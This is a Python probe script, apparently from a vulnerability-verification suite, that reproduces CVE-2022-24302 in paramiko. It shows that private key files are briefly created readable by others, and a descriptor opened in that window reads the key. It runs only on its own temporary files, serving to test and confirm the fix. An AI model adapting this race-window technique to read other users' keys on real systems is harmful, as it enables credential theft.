# /// vertice-probe
# id = "PYSEC-2022-166"
# aliases = ["CVE-2022-24302", "GHSA-f8q4-jwww-x3wv"]
# package = "paramiko"
# summary = "A private key file is created open and closed to others only afterwards, so a local user can read the key."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:N" }]
# cwe = ["CWE-362"]
# kind = "permissions"
# symbols = [
#   "paramiko.PKey.write_private_key_file",
#   "paramiko.RSAKey.write_private_key_file",
#   "paramiko.ECDSAKey.write_private_key_file",
#   "paramiko.DSSKey.write_private_key_file",
# ]
#
# [[affected]]
# package = "paramiko"
# ranges = [
#   { type = "ECOSYSTEM", events = [
#     { introduced = "0" },
#     { fixed = "2.9.3" },
#     { introduced = "2.10.0" },
#     { fixed = "2.10.1" },
#   ] },
# ]
#
# [cases]
# attack = "at the moment a new RSA key file appears it is readable by everybody"
# [cases.variants]
# open_descriptor = "a descriptor opened in that moment reads the whole EC key afterwards"
# [cases.controls]
# round_trip = "a key is written, is private at the end, and is read again"
#
# [test]
# vulnerable = "2.10.0"
# fixed = "2.10.1"
# with = ["cryptography<37"]
# ///
"""CVE-2022-24302: a window between creating a private key file and closing it to others."""

import builtins
import json
import os
import stat
import sys
import tempfile
import warnings

warnings.simplefilter("ignore")
PATH = os.path.join(tempfile.mkdtemp(), "id_test")
OTHERS = stat.S_IRGRP | stat.S_IROTH


def watch(write):
    """Run `write`; give (mode right after creation, descriptor that others could open then, or None)."""
    real_open, real_os_open = builtins.open, os.open
    seen = []

    def note():
        if not seen and os.path.exists(PATH):
            mode = stat.S_IMODE(os.stat(PATH).st_mode)
            seen.append((mode, real_os_open(PATH, os.O_RDONLY) if mode & OTHERS else None))

    def watched_open(*args, **kwargs):
        opened = real_open(*args, **kwargs)
        note()
        return opened

    def watched_os_open(*args, **kwargs):
        opened = real_os_open(*args, **kwargs)
        note()
        return opened

    builtins.open, os.open = watched_open, watched_os_open
    try:
        write()
    finally:
        builtins.open, os.open = real_open, real_os_open
    return seen[0] if seen else (None, None)


def look(key, umask):
    os.umask(umask)
    mode, descriptor = watch(lambda: key.write_private_key_file(PATH))
    with open(PATH) as written:
        text = written.read()
    if mode is None or "PRIVATE KEY" not in text:
        return "error", "no key file was seen"
    if not mode & OTHERS:
        return "blocked", "the file was created with mode %04o and holds the key" % mode
    leaked = os.read(descriptor, 100000).decode()
    if leaked != text:
        return "error", "mode %04o, but the early descriptor does not read the key" % mode
    return "exploited", "created with mode %04o; a descriptor opened then reads the key" % mode


def attack():
    import paramiko

    return look(paramiko.RSAKey.generate(1024), 0o022)


def open_descriptor():
    import paramiko

    return look(paramiko.ECDSAKey.generate(), 0o000)


def round_trip():
    import paramiko

    key = paramiko.RSAKey.generate(1024)
    key.write_private_key_file(PATH, password="secret words")
    mode = stat.S_IMODE(os.stat(PATH).st_mode)
    again = paramiko.RSAKey.from_private_key_file(PATH, password="secret words")
    good = mode == 0o600 and again.get_base64() == key.get_base64()
    return ("works", "mode 0600, same key read") if good else ("broken", "mode %04o" % mode)


CASES = {"attack": attack, "open_descriptor": open_descriptor, "round_trip": round_trip}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
